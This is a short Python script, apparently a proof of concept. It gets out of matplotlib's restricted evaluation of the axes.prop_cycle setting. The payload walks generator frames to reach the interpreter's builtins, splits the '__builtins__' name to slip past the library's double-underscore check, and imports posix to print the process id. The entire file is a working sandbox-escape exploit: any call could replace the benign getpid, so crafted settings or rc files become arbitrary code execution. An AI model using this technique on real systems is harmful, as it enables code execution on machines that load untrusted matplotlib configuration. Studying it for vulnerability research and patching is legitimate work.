"""matplotlib evaluates the text of axes.prop_cycle; its own check knows only names with two underscores."""
import matplotlib

code = "[a := [], g := (a[0].gi_frame.f_back.f_back for _ in [1]), a.append(g), f := [*g][0], b := f.f_globals['__buil' 'tins__'], "
code += "b['print']('ESCAPED:property_cycle', b['__import__']('posix').getpid())]"
try:
    matplotlib.rcParams["axes.prop_cycle"] = code
except ValueError:
    pass
